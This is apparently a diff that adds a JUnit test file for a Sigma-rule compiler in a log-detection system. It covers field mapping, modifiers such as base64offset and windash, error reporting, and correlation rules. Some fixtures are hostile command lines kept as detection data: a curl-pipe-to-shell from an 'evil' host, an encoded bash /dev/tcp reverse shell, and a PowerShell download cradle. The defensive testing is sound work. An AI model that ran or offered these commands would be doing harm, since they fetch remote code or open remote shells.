@@ -1,0 +1,301 @@
+package io.vigil.detection.sigma;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.vigil.common.LogEvent;
+import io.vigil.common.Severity;
+import io.vigil.detection.Fixtures;
+import io.vigil.detection.parse.RuleError;
+import io.vigil.detection.parse.RuleParser;
+import io.vigil.detection.rule.Rule;
+import io.vigil.detection.rule.RuleKind;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+
+/** Sigma files compiled through rules/sigma/field-mapping.yml into Vigil rules, and run against events. */
+class SigmaParserTest {
+    private static FieldMapping mapping;
+
+    @BeforeAll
+    static void loadMapping() throws Exception {
+        mapping = FieldMapping.load(Path.of("..", "rules", "sigma", FieldMapping.FILE_NAME));
+    }
+
+    private static List<Rule> compile(String yaml) {
+        List<Rule> rules = new ArrayList<>();
+        RuleParser.Parsed parsed = SigmaParser.parseAll("s.yml", yaml, mapping, rules);
+        assertThat(parsed.errors()).as("errors").isEmpty();
+        return rules;
+    }
+
+    private static List<RuleError> errors(String yaml) {
+        return SigmaParser.parseAll("s.yml", yaml, mapping, new ArrayList<>()).errors();
+    }
+
+    /** A process_creation rule on linux with the given detection lines (indented two spaces). */
+    private static Rule process(String detection) {
+        return compile("title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n" + detection).get(0);
+    }
+
+    private static LogEvent commandLine(String line) {
+        return Fixtures.event(0, "h", Map.of("process.command_line", line, "user.name", "bob"));
+    }
+
+    private static LogEvent message(String text, Map<String, Object> fields) {
+        LogEvent e = Fixtures.event(0, "h", fields);
+        e.message = text;
+        return e;
+    }
+
+    @Nested
+    class Rules {
+        @Test
+        void levelsMapOntoSeverities() {
+            Map<String, Severity> expected = Map.of("informational", Severity.LOW, "low", Severity.LOW,
+                    "medium", Severity.MEDIUM, "high", Severity.HIGH, "critical", Severity.CRITICAL);
+            expected.forEach((level, severity) -> assertThat(compile("title: T\nid: t\nlevel: " + level
+                    + "\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\n").get(0).severity()).isEqualTo(severity));
+            assertThat(errors("title: T\nlevel: severe\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\n"))
+                    .extracting(RuleError::toString).containsExactly("s.yml:2: level 'severe' must be informational, low, medium, high or critical");
+        }
+
+        @Test
+        void aSigmaRuleIsAMatchRuleWithItsUuidTagsAndStatus() {
+            Rule rule = compile("title: T\nid: 3C2EA4D4-7f1c-4b0a-9a51-2f6a1d9b2c01\nstatus: deprecated\ntags: [attack.T1110]\n"
+                    + "logsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k\nfalsepositives: [none]\nauthor: me\n").get(0);
+            assertThat(rule.id()).isEqualTo("3c2ea4d4-7f1c-4b0a-9a51-2f6a1d9b2c01");
+            assertThat(rule.kind()).isEqualTo(RuleKind.MATCH);
+            assertThat(rule.tags()).containsExactly("attack.t1110");
+            assertThat(rule.enabled()).as("deprecated rules are catalogued, not run").isFalse();
+        }
+
+        @Test
+        void keywordsSearchMessageAndAnyMatches() {
+            Rule rule = compile("title: T\nlogsource: {product: linux, service: sshd}\ndetection:\n  k: ['Failed password', 'Invalid user']\n  condition: k\n").get(0);
+            assertThat(rule.condition().test(message("sshd: Invalid user admin from 1.2.3.4", Map.of()))).isTrue();
+            assertThat(rule.condition().test(message("sshd: Accepted password for bob", Map.of()))).isFalse();
+        }
+
+        @Test
+        void mapsAreAndListsAreOrNullIsAbsent() {
+            Rule rule = process("  s:\n    CommandLine|contains: [curl, wget]\n    User: [root, admin]\n  no_pid:\n    ProcessId: null\n  condition: s and no_pid\n");
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.command_line", "wget x", "user.name", "admin")))).isTrue();
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.command_line", "wget x", "user.name", "bob")))).isFalse();
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.command_line", "wget x", "user.name", "root", "process.pid", 4L))))
+                    .as("null means absent, and this event has a ProcessId").isFalse();
+        }
+
+        @Test
+        void aListOfMapsIsAnyOfThem() {
+            Rule rule = process("  s:\n    - {Image: curl}\n    - {CommandLine|startswith: 'python -c'}\n  condition: s\n");
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.name", "curl")))).isTrue();
+            assertThat(rule.condition().test(commandLine("python -c 'print(1)'"))).isTrue();
+            assertThat(rule.condition().test(commandLine("python x.py"))).isFalse();
+        }
+
+        @Test
+        void wildcardsStayWildcardsInsideContainsAndCanBeEscaped() {
+            Rule rule = process("  s: {CommandLine|contains: 'curl *| sh'}\n  e: {CommandLine|endswith: 'x\\*'}\n  condition: s or e\n");
+            assertThat(rule.condition().test(commandLine("sudo curl http://evil | sh -s"))).isTrue();
+            assertThat(rule.condition().test(commandLine("ls x*"))).isTrue();
+            assertThat(rule.condition().test(commandLine("ls xy"))).isFalse();
+        }
+
+        @Test
+        void conditionsWithQuantifiersAndParentheses() {
+            Rule rule = process("  sel_a: {CommandLine|contains: a1}\n  sel_b: {CommandLine|contains: b2}\n  filter: {User: root}\n"
+                    + "  condition: all of sel_* and not (filter)\n");
+            assertThat(rule.condition().test(commandLine("a1 b2"))).isTrue();
+            assertThat(rule.condition().test(commandLine("a1"))).isFalse();
+        }
+    }
+
+    @Nested
+    class Errors {
+        @Test
+        void anUnmappableFieldIsReportedWithItsLine() {
+            assertThat(errors("title: T\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n"
+                    + "    CommandLine|contains: x\n    ParentImage|endswith: /bash\n  condition: s\n"))
+                    .extracting(RuleError::toString).singleElement().asString()
+                    .startsWith("s.yml:6: unmapped field 'ParentImage' for product=linux category=process_creation");
+        }
+
+        @Test
+        void aFieldOnlyInMessageNeedsContainsOrRe() {
+            assertThat(errors("title: T\nlogsource: {category: webserver}\ndetection:\n  s: {cs-uri-query: '/x'}\n  condition: s\n"))
+                    .extracting(RuleError::toString).singleElement().asString().contains("s.yml:4: field 'cs-uri-query' is only searchable in message");
+        }
+
+        @Test
+        void oldAggregationsAndUnknownModifiersAreReported() {
+            assertThat(errors("title: T\nlogsource: {product: linux}\ndetection:\n  k: [x]\n  condition: k | count() by host > 5\n"))
+                    .extracting(RuleError::line).containsExactly(5);
+            assertThat(errors("title: T\nlogsource: {product: linux}\ndetection:\n  k: {CommandLine|frob: x}\n  condition: k\n"))
+                    .extracting(RuleError::toString).singleElement().asString().startsWith("s.yml:4: unknown modifier 'frob'");
+            assertThat(errors("title: T\nlogsource: {product: linux}\ndetection:\n  k: {CommandLine|contains|i: x}\n  condition: k\n"))
+                    .as("regex flags only after re").hasSize(1);
+        }
+    }
+
+    @Nested
+    class Modifiers {
+        private String b64(String text) {
+            return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
+        }
+
+        @Test
+        void base64MatchesTheEncodedValueCaseSensitively() {
+            Rule rule = process("  s: {CommandLine|base64|contains: 'bash -i'}\n  condition: s\n");
+            assertThat(rule.condition().test(commandLine("echo " + b64("bash -i") + " | base64 -d"))).isTrue();
+            assertThat(rule.condition().test(commandLine("echo " + b64("bash -i").toLowerCase() + " | base64 -d"))).isFalse();
+        }
+
+        @Test
+        void base64offsetFindsTheValueAtEveryOffset() {
+            Rule rule = process("  s: {CommandLine|base64offset|contains: '/dev/tcp/'}\n  condition: s\n");
+            for (String prefix : List.of("", "a", "ab", "abc", "abcd")) {
+                assertThat(rule.condition().test(commandLine("x " + b64(prefix + "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))))
+                        .as("offset %d", prefix.length()).isTrue();
+            }
+            assertThat(rule.condition().test(commandLine("x " + b64("bash -i >& /dev/udp/1.2.3.4/1")))).isFalse();
+        }
+
+        @Test
+        void wideThenBase64IsPowerShellsEncodedCommand() {
+            Rule rule = process("  s: {CommandLine|wide|base64offset|contains: 'IEX'}\n  condition: s\n");
+            String encoded = Base64.getEncoder().encodeToString("$x; IEX (New-Object Net.WebClient)".getBytes(StandardCharsets.UTF_16LE));
+            assertThat(rule.condition().test(commandLine("pwsh -enc " + encoded))).isTrue();
+            assertThat(rule.condition().test(commandLine("pwsh -enc " + b64("$x; IEX (New-Object Net.WebClient)")))).isFalse();
+        }
+
+        @Test
+        void utf16VariantsEncodeTheValue() {
+            String value = "ab";
+            assertThat(process("  s: {CommandLine|utf16le|contains: ab}\n  condition: s\n").condition()
+                    .test(commandLine(new String(value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1)))).isTrue();
+            assertThat(process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n").condition()
+                    .test(commandLine(new String(value.getBytes(StandardCharsets.UTF_16BE), StandardCharsets.ISO_8859_1)))).isTrue();
+            assertThat(process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n").condition()
+                    .test(commandLine(new String(value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1)))).isFalse();
+            assertThat(process("  s: {CommandLine|utf16|base64|contains: ab}\n  condition: s\n").condition()
+                    .test(commandLine(Base64.getEncoder().encodeToString(new byte[] {(byte) 0xFF, (byte) 0xFE, 'a', 0, 'b', 0})))).isTrue();
+        }
+
+        @Test
+        void windashAcceptsEveryDashForAnOption() {
+            Rule rule = process("  s: {CommandLine|windash|contains: ' -f '}\n  condition: s\n");
+            for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
+                assertThat(rule.condition().test(commandLine("tool " + dash + "f x"))).as(dash).isTrue();
+            }
+            assertThat(rule.condition().test(commandLine("tool +f x"))).isFalse();
+        }
+
+        @Test
+        void casedComparesCaseSensitively() {
+            Rule rule = process("  s: {CommandLine|cased|contains: 'AutoRun'}\n  condition: s\n");
+            assertThat(rule.condition().test(commandLine("reg add AutoRun"))).isTrue();
+            assertThat(rule.condition().test(commandLine("reg add autorun"))).isFalse();
+            Rule plain = process("  s: {CommandLine|contains: 'AutoRun'}\n  condition: s\n");
+            assertThat(plain.condition().test(commandLine("reg add autorun"))).isTrue();
+        }
+
+        @Test
+        void fieldrefComparesTwoFieldsOfTheEvent() {
+            Rule rule = compile("title: T\nlogsource: {product: linux}\ndetection:\n  s: {User|fieldref: TargetUser}\n  condition: s\n").get(0);
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "root", "user.target.name", "ROOT")))).isTrue();
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "bob", "user.target.name", "root")))).isFalse();
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "bob")))).isFalse();
+        }
+
+        @Test
+        void regexFlags() {
+            assertThat(process("  s: {CommandLine|re: 'CURL'}\n  condition: s\n").condition().test(commandLine("curl x"))).isFalse();
+            assertThat(process("  s: {CommandLine|re|i: 'CURL'}\n  condition: s\n").condition().test(commandLine("curl x"))).isTrue();
+            assertThat(process("  s: {CommandLine|re: '^b$'}\n  condition: s\n").condition().test(commandLine("a\nb\nc"))).isFalse();
+            assertThat(process("  s: {CommandLine|re|m: '^b$'}\n  condition: s\n").condition().test(commandLine("a\nb\nc"))).isTrue();
+            assertThat(process("  s: {CommandLine|re: 'a.b'}\n  condition: s\n").condition().test(commandLine("a\nb"))).isFalse();
+            assertThat(process("  s: {CommandLine|re|s: 'a.b'}\n  condition: s\n").condition().test(commandLine("a\nb"))).isTrue();
+        }
+
+        @Test
+        void comparisonsCidrAndExists() {
+            Rule rule = compile("title: T\nlogsource: {category: network_connection}\ndetection:\n"
+                    + "  s: {DestinationPort|gte: 1024, DestinationIp|cidr: '203.0.113.0/24', User|exists: true}\n  condition: s\n").get(0);
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5", "user.name", "a")))).isTrue();
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("destination.port", 443L, "destination.ip", "203.0.113.5", "user.name", "a")))).isFalse();
+            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5")))).isFalse();
+        }
+    }
+
+    @Nested
+    class Correlations {
+        private static final String BASE = "title: Fail\nname: fail\nid: base-rule\nlogsource: {product: linux, service: sshd}\n"
+                + "detection:\n  k: ['Failed password']\n  condition: k\n---\n";
+
+        @Test
+        void eventCountBecomesACountRuleOverTheNamedRule() {
+            List<Rule> rules = compile(BASE + "title: Burst\nid: burst\ncorrelation:\n  type: event_count\n  rules: [fail]\n"
+                    + "  group-by: [SourceIp]\n  timespan: 5m\n  condition: {gt: 9}\nlevel: high\n");
+            Rule burst = rules.get(1);
+            assertThat(burst.kind()).isEqualTo(RuleKind.COUNT);
+            assertThat(burst.groupBy()).containsExactly("source.ip");
+            assertThat(burst.count().min()).isEqualTo(10);
+            assertThat(burst.count().within()).hasMinutes(5);
+            assertThat(burst.condition().test(message("Failed password for x", Map.of()))).isTrue();
+            assertThat(rules.get(0).enabled()).as("referenced rules do not alert alone").isFalse();
+        }
+
+        @Test
+        void generateKeepsTheReferencedRuleRunning() {
+            List<Rule> rules = compile(BASE + "title: Burst\ncorrelation:\n  type: event_count\n  rules: [base-rule]\n  generate: true\n"
+                    + "  timespan: 5m\n  condition: {gte: 3}\n");
+            assertThat(rules.get(0).enabled()).isTrue();
+            assertThat(rules.get(1).groupBy()).containsExactly("host");
+        }
+
+        @Test
+        void valueCountCountsDistinctMappedValues() {
+            Rule rule = compile(BASE + "title: Spray\ncorrelation:\n  type: value_count\n  rules: [fail]\n  group-by: [SourceIp]\n"
+                    + "  timespan: 10m\n  condition: {field: User, gte: 5}\n").get(1);
+            assertThat(rule.count().distinctField()).isEqualTo("user.name");
+            assertThat(rule.count().min()).isEqualTo(5);
+        }
+
+        @Test
+        void temporalOrderedBecomesASequence() {
+            Rule rule = compile(BASE + "title: Ok\nname: ok\nlogsource: {product: linux, service: sshd}\ndetection:\n"
+                    + "  k: ['Accepted password']\n  condition: k\n---\ntitle: Then\ncorrelation:\n  type: temporal_ordered\n"
+                    + "  rules: [fail, ok]\n  group-by: [SourceIp]\n  timespan: 10m\n").get(2);
+            assertThat(rule.kind()).isEqualTo(RuleKind.SEQUENCE);
+            assertThat(rule.sequence().steps()).hasSize(2);
+            assertThat(rule.sequence().steps().get(1).condition().test(message("Accepted password for a", Map.of()))).isTrue();
+        }
+
+        @Test
+        void whatCannotFireWhileTheWindowIsOpenIsReported() {
+            assertThat(errors(BASE + "title: Few\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 5m\n  condition: {lt: 3}\n"))
+                    .extracting(RuleError::toString).singleElement().asString().startsWith("s.yml:14: condition 'lt'");
+            assertThat(errors(BASE + "title: Any\ncorrelation:\n  type: temporal\n  rules: [fail]\n  timespan: 5m\n"))
+                    .extracting(RuleError::line).containsExactly(11);
+            assertThat(errors(BASE + "title: X\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 5m\n  condition: {gte: 2}\n"))
+                    .extracting(RuleError::line).containsExactly(12);
+        }
+    }
+
+    @Test
+    void everySigmaRuleShippedInRulesSigmaCompiles() {
+        SigmaCheck.Report report = SigmaCheck.run(Path.of("..", "rules", "sigma"));
+        Map<String, String> failures = new HashMap<>();
+        report.outcomes().stream().filter(o -> !o.compiled()).forEach(o -> failures.put(o.file().toString(), o.firstError().toString()));
+        assertThat(failures).isEmpty();
+        assertThat(report.outcomes()).hasSizeGreaterThanOrEqualTo(7);
+    }
+}
